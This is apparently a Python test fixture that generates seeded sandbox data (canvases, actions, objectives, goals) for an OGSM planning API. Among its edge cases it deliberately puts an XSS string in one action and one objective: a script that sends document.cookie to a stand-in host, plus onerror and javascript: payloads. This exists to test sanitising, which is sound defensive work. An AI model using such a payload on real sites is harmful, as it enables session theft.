"""Seeded OGSM tenants: canvases, objectives, goals and actions, with the awkward cases.

Deterministic (``random.Random(seed)``), dates relative to today. Two tenants:

* ``acme``: a newer tenant offering objectives and goals (one objective per canvas except the
  last canvas, whose team falls back to "Canvas <id>"), a custom action status ("waiting");
* ``legacy``: an older tenant without objectives/goals (those endpoints answer 404).

The first canvas of every tenant holds one action per awkward case (see ``_awkward_action``),
so even the small tenant has them all.
"""

from __future__ import annotations

import random
import threading
from dataclasses import dataclass, field
from datetime import date, timedelta
from typing import Any

TENANTS = ("acme", "legacy")
STANDARD_STATUSES = ("icebox", "todo", "doing", "done")

PEOPLE = (
    "Femke de Vries",
    "Jan Jansen",
    "Sanne Bakker",
    "Pieter Visser",
    "Lotte Smit",
    "Bob Builder",  # also Operately's engineer (the demo's name match across vendors, issue #18)
    "Emma de Boer",
    "Zoë Ångström",
    "José Núñez",
    "Мария Иванова",
    "佐藤 健",
)
MEMBER_NAME = PEOPLE[0]  # the second sandbox user: owns some actions, may edit only those
INVOLVED_OWNER = PEOPLE[1]  # owns the overdue awkward action the member is only involved in
TEAMS = ("Sales team", "Operations", "Customer Success")
LABELS = ("Q1", "Q2", "Q3", "Q4", "quick win", "budget", "risk", "klant")
VERBS = ("Launch", "Reduce", "Improve", "Automate", "Train", "Review", "Migrate", "Hire", "Pilot", "Measure")
THINGS = (
    "the onboarding flow",
    "delivery lead time",
    "the partner programme",
    "invoice processing",
    "support response time",
    "the regional warehouse",
    "customer interviews",
    "the pricing page",
    "energy use per unit",
    "the quarterly business review",
)
OBJECTIVES = (
    "Become the most trusted supplier in the Benelux",
    "Double recurring revenue by 2027",
    "Grow sustainably and profitably",
    "Delight every customer, every time",
    "Build the best place to work in logistics",
    "Lead the market in circular packaging",
)
GOAL_TITLES = (
    ("Net promoter score", "points"),
    ("Recurring revenue", "EUR"),
    ("On-time deliveries", "%"),
    ("Employee engagement", "score"),
    ("CO2 per shipment", "kg"),
    ("New enterprise customers", "customers"),
)
TRAFFIC_LIGHTS = ("green", "green", "green", "orange", "red", None, "amber", "yellow")

MALICIOUS_DESCRIPTION = (
    '<p>Quarterly plan</p><script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<img src="x" onerror="alert(\'pwned\')">'
    '<a href="javascript:alert(1)">click me</a>'
    '<p onclick="steal()" style="background:url(javascript:alert(2))">styled</p>'
    '<iframe src="https://evil.example"></iframe>'
)
RICH_DESCRIPTION = (
    "<p>We <strong>must</strong> finish the <em>pilot</em> before summer.</p>"
    "<ul><li>Pick two regions</li><li>Agree the budget</li></ul>"
    '<p>See <a href="https://wiki.example.com/pilot">the wiki</a>.</p>'
)


@dataclass
class OgsmUser:
    username: str
    password: str
    name: str  # the person at the vendor (action ownership is by name)
    admin: bool  # team admin: may edit every action


@dataclass
class RecordedRequest:
    """One API request as the sandbox saw it (tests assert what a client actually sent)."""

    method: str
    path: str
    username: str | None
    content_type: str
    body: Any  # the parsed JSON body, the raw text when it was not JSON, None when empty
    status: int = 0


@dataclass
class OgsmState:
    tenant: str
    users: dict[str, OgsmUser]
    canvases: list[int]
    statuses: tuple[str, ...]
    actions: dict[int, dict[str, Any]]
    objectives: dict[int, dict[str, Any]] | None  # None: this tenant does not offer objectives
    goals: dict[int, dict[str, Any]] | None
    strategies: dict[int, list[int]]  # canvas id -> strategy ids on it
    next_action_id: int
    requests: list[RecordedRequest] = field(default_factory=list)
    lock: threading.RLock = field(default_factory=threading.RLock)

    def writes(self) -> list[RecordedRequest]:
        """The write requests received (POST, PATCH, DELETE), oldest first."""
        with self.lock:
            return [r for r in self.requests if r.method in ("POST", "PATCH", "DELETE")]

    def action(self, action_id: int) -> dict[str, Any] | None:
        with self.lock:
            return self.actions.get(action_id)


def _iso(day: date) -> str:
    return day.isoformat()


def _person(rng: random.Random) -> dict[str, str]:
    return {"name": rng.choice(PEOPLE)}


def _random_action(
    rng: random.Random, action_id: int, canvas: int, row: int, strategies: list[int], statuses: tuple[str, ...], today: date
) -> dict[str, Any]:
    status = rng.choice(statuses)
    start = today - timedelta(days=rng.randint(-30, 150))
    due = start + timedelta(days=rng.randint(14, 240))
    if status in ("icebox", "todo"):
        progress = 0
    elif status == "done":
        progress = 100
    else:
        progress = rng.randint(5, 95)
    involved = [{"name": n} for n in rng.sample(PEOPLE, rng.randint(0, 2))]
    if rng.random() < 0.15:
        involved.append({"name": rng.choice(TEAMS)})
    return {
        "id": action_id,
        "title": f"{rng.choice(VERBS)} {rng.choice(THINGS)}",
        "labels": [{"name": n} for n in rng.sample(LABELS, rng.randint(0, 2))],
        "strategies": [{"id": rng.choice(strategies)}],
        "description": rng.choice(("", "<p>Owner keeps the board up to date.</p>", RICH_DESCRIPTION, None)),
        "assignee": _person(rng) if rng.random() < 0.9 else None,
        "involved": involved,
        "start": _iso(start),
        "due": _iso(due),
        "status": {"name": status},
        "ogsm_canvases": [{"id": canvas, "row_order": row}],
        "traffic_light": rng.choice(TRAFFIC_LIGHTS),
        "progress": progress,
        "archived": rng.random() < 0.05,
    }


def _awkward_action(
    case: int, base: dict[str, Any], canvases: list[int], strategies: dict[int, list[int]], tenant: str, today: date
) -> dict[str, Any]:
    """The first canvas's actions, one per awkward case (by row)."""
    action = dict(base)
    if case == 0 and len(canvases) > 1:  # one action on two canvases and two strategies
        action["title"] = "Shared: align the sales and operations plans"
        action["ogsm_canvases"] = [{"id": canvases[0], "row_order": 1}, {"id": canvases[1], "row_order": 7}]
        action["strategies"] = [{"id": strategies[canvases[0]][0]}, {"id": strategies[canvases[1]][1]}]
        action["status"], action["progress"], action["archived"] = {"name": "doing"}, 40, False
    elif case == 1:  # past its start but not started (the vendor shows these red)
        action.update(title="Kick off the supplier audit", start=_iso(today - timedelta(days=20)), due=_iso(today + timedelta(days=40)))
        action.update(status={"name": "todo"}, progress=0, traffic_light="red", archived=False, assignee={"name": MEMBER_NAME})
    elif case == 2:  # past due, not done: overdue; the member is involved (not the owner: may not edit it)
        action.update(title="Renew the ISO certification", start=_iso(today - timedelta(days=90)), due=_iso(today - timedelta(days=5)))
        action.update(status={"name": "doing"}, progress=60, traffic_light="red", archived=False, assignee={"name": INVOLVED_OWNER})
        # involved: the member twice, the owner again (listed by some tenants) and a team
        action["involved"] = [{"name": MEMBER_NAME}, {"name": INVOLVED_OWNER}, {"name": TEAMS[1]}, {"name": MEMBER_NAME}]
    elif case == 3:  # malicious HTML
        action.update(title="Plan the Q3 campaign", description=MALICIOUS_DESCRIPTION, archived=False)
    elif case == 4:  # unicode everywhere
        action.update(
            title="Réduire les délais de livraison — 東京 🚀",
            assignee={"name": "Zoë Ångström"},
            involved=[{"name": "José Núñez"}, {"name": "Мария Иванова"}],
            description="<p>Überprüfung der Lieferkette, 納期短縮 ✅</p>",
            labels=[{"name": "klant"}, {"name": "🚚 logistiek"}],
            archived=False,
        )
    elif case == 5:  # archived
        action.update(title="Old: print the annual report", status={"name": "done"}, progress=100, archived=True)
    elif case == 6:  # past due but done: not overdue
        action.update(
            title="Close the 2024 books", due=_iso(today - timedelta(days=30)), status={"name": "done"}, progress=100, archived=False
        )
    elif case == 7:  # a status name the client does not know (acme has a custom one)
        action.update(title="Wait for the board decision", status={"name": "waiting" if tenant == "acme" else "icebox"}, archived=False)
    elif case == 8:  # bare: no traffic light, no owner, no description, no labels
        action.update(title="Unassigned idea", traffic_light=None, assignee=None, involved=[], description=None, labels=[], archived=False)
    elif case == 9:  # rich but harmless HTML
        action.update(title="Pilot the regional warehouse", description=RICH_DESCRIPTION, archived=False)
    return action


def generate(tenant: str, seed: int, canvases_count: int, actions_per_canvas: int, goals_per_canvas: int) -> OgsmState:
    if tenant not in TENANTS:
        raise ValueError(f"unknown OGSM sandbox tenant {tenant!r}; tenants: {', '.join(TENANTS)}")
    if canvases_count < 1:
        raise ValueError("an OGSM sandbox needs at least one canvas (size >= 1)")
    rng = random.Random(f"ogsm-{tenant}-{seed}")
    today = date.today()
    offers_objectives = tenant == "acme"
    statuses = (*STANDARD_STATUSES, "waiting") if tenant == "acme" else STANDARD_STATUSES
    canvas_base = 700 if tenant == "acme" else 300
    canvases = [canvas_base + i + 1 for i in range(canvases_count)]
    strategies = {c: [10_000 + i * 4 + s for s in range(4)] for i, c in enumerate(canvases)}

    actions: dict[int, dict[str, Any]] = {}
    action_id = 1000
    for ci, canvas in enumerate(canvases):
        for row in range(actions_per_canvas):
            action_id += 1
            action = _random_action(rng, action_id, canvas, row * 10 + 1, strategies[canvas], statuses, today)
            if ci == 0:
                action = _awkward_action(row, action, canvases, strategies, tenant, today)
            actions[action_id] = action

    objectives: dict[int, dict[str, Any]] | None = None
    goals: dict[int, dict[str, Any]] | None = None
    if offers_objectives:
        objectives, goals = {}, {}
        # Every canvas but the last has its objective (so the "Canvas <id>" fallback exists).
        with_objective = canvases[:-1] if len(canvases) > 1 else canvases
        for i, canvas in enumerate(with_objective):
            title = OBJECTIVES[i % len(OBJECTIVES)] + ("" if i < len(OBJECTIVES) else f" ({i // len(OBJECTIVES) + 1})")
            if i == 1:
                title = "Groeien met plezier — 成長 🌱"
            objectives[i + 1] = {
                "id": i + 1,
                "title": title,
                "labels": [{"name": "2026"}],
                "description": "<p>Our ambition for the next <strong>three years</strong>.</p>" if i != 0 else MALICIOUS_DESCRIPTION,
                "assignee": _person(rng),
                "ogsm_canvases": [{"id": canvas, "row_order": 1}],
                "traffic_light": rng.choice(("green", "orange", None)),
                "archived": False,
            }
        # A replaced objective, archived, still listed on the first canvas.
        old_id = len(objectives) + 1
        objectives[old_id] = {
            "id": old_id,
            "title": "Old ambition (2023)",
            "labels": [],
            "description": "",
            "assignee": None,
            "ogsm_canvases": [{"id": canvases[0], "row_order": 2}],
            "archived": True,
        }
        goal_id = 0
        for canvas in canvases:
            for g in range(goals_per_canvas):
                goal_id += 1  # ids overlap objective ids on purpose: the connector prefixes them
                title, unit = GOAL_TITLES[rng.randrange(len(GOAL_TITLES))]
                goals[goal_id] = {
                    "id": goal_id,
                    "title": title,
                    "labels": [],
                    "description": "<p>Measured monthly.</p>",
                    "target_unit": unit,
                    "assignee": _person(rng),
                    "ogsm_canvases": [{"id": canvas, "row_order": g + 1}],
                    "traffic_light": rng.choice(TRAFFIC_LIGHTS),
                    "archived": goal_id == 2,
                    "chart_vertical_min": 0,
                    "aggregation_method": rng.choice(("sum", "average", "last")),
                    "chart_type": rng.choice(("line", "bar")),
                }

    users = {
        f"api-{tenant}": OgsmUser(f"api-{tenant}", f"{tenant}-api-secret-{seed}", "API user", admin=True),
        "member": OgsmUser("member", f"member-secret-{seed}", MEMBER_NAME, admin=False),
    }
    return OgsmState(
        tenant=tenant,
        users=users,
        canvases=canvases,
        statuses=statuses,
        actions=actions,
        objectives=objectives,
        goals=goals,
        strategies=strategies,
        next_action_id=action_id + 1,
    )
